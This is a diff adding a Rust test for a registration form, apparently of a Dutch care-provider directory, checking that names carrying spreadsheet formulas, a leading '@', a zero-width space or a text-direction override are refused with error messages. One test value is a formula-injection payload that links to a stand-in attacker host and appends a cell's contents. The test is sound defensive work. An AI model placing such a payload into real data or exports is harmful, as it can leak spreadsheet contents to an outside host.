@@ -631,3 +631,31 @@ async fn two_saves_of_the_same_offer_at_once_make_one_offer() {
         .expect("count");
     assert_eq!(stored, 1);
 }
+
+/// Names a spreadsheet would run as a formula, or that read as another name (a direction
+/// override, a zero-width space), are refused with their reason; nothing is made.
+#[tokio::test]
+async fn formula_and_look_alike_names_are_refused() {
+    let app = spawn_app().await;
+    let visitor = app.browser();
+    for (name, message) in [
+        (
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
+            "Laat de naam beginnen met een letter of een cijfer.",
+        ),
+        ("@Zorg", "Laat de naam beginnen met een letter of een cijfer."),
+        ("Jeugdhulp\u{200b}Kompas", "onzichtbaar teken"),
+        ("\u{202e}SAPMOK PLUHDGUEJ", "onzichtbaar teken"),
+    ] {
+        let fields = registration_fields(name, "nieuw@zorg.example", &["haaglanden"]);
+        let (status, _, body) = post_owned(&visitor, "/registreren", &fields).await;
+        assert_eq!(status, 422, "{name:?}: {body}");
+        assert!(body.contains(message), "{name:?}: {body}");
+        common::assert_error_links_resolve(&body);
+    }
+    let count: i64 = providers::table
+        .count()
+        .get_result(&mut *app.conn())
+        .expect("count");
+    assert_eq!(count, 0);
+}
